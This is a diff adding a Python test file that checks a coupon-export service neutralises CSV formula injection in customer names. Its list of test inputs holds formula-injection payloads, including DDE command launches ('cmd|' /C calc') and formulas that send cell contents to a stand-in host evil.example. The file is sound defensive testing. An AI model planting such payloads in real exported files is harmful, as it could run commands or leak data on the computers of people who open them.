@@ -1,0 +1,62 @@
+"""R13: what people put into their names must not be calculated when marketers open the file."""
+
+import csv
+import io
+import re
+from datetime import UTC, datetime
+
+import pytest
+
+from couponflow.domain.csv_safety import harmless
+from couponflow.domain.models import Holder, Redemption, RedemptionStatus
+from couponflow.services.exports import COLUMNS, Exports
+
+DANGEROUS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @x", "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"win")',
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/C calc")',
+    '"=1+1', '""=1+1', "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n+1", 'x";=1+1', "x; =1+1", "x,=1+1",
+    "\uff1d1+1", "\uff0b1", "\uff0d1",
+    "\uff20x", "\u00a0=1+1", "\x00=1+1", "\x0b=1+1", "\u2028=1+1", "+491701234567", "-", "=", "@",
+    "x|=1+1", "\u3000=1+1", "'=1+1",
+]  # fmt: skip
+# Where a cell begins, for programs that separate by comma, semicolon or tab and mind quotation marks or not.
+_FORMULA = re.compile(r"(^|[;,\t\r\n|])[\s\x00\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_no_cell_begins_a_formula(value):
+    assert not _FORMULA.search(harmless(value))
+    assert harmless(value).replace("'", "") == value.replace("'", ""), "nothing is lost"
+
+
+def test_without_the_apostrophe_each_of_them_does():
+    assert [value for value in DANGEROUS if not _FORMULA.search(value)] == ["'=1+1"]
+
+
+@pytest.mark.parametrize(
+    "value", ["ann", "customer-1", "a+b@example.org", "x=1", "U4af4980629", "5511987654321", "", "a;b", "7 - 2"]
+)
+def test_what_is_harmless_stays_as_it_is(value):
+    assert harmless(value) == value
+
+
+class File:
+    def save(self, organisation_id: str, export_id: str, content: bytes, content_type: str, file_name: str) -> str:
+        self.content = content
+        return "https://bucket.example"
+
+
+def redemption(customer_id: str, number: int = 1) -> Redemption:
+    now, holder = datetime(2026, 1, 1, tzinfo=UTC), Holder("c" * 13, "m" * 26)
+    return Redemption(f"id-{number}", holder, "000001", RedemptionStatus.DISTRIBUTED, customer_id, customer_id, now)
+
+
+def test_in_the_file_no_cell_begins_a_formula_and_every_row_has_all_columns():
+    file = File()
+    written = Exports(None, file)._written(redemption(value, number) for number, value in enumerate(DANGEROUS))  # type: ignore[arg-type]
+    rows = list(csv.reader(io.StringIO(written.decode(), newline="")))
+    assert rows[0] == list(COLUMNS)
+    assert len(rows) == len(DANGEROUS) + 1
+    assert {len(row) for row in rows} == {len(COLUMNS)}
+    assert not [cell for row in rows for cell in row if _FORMULA.search(cell)]
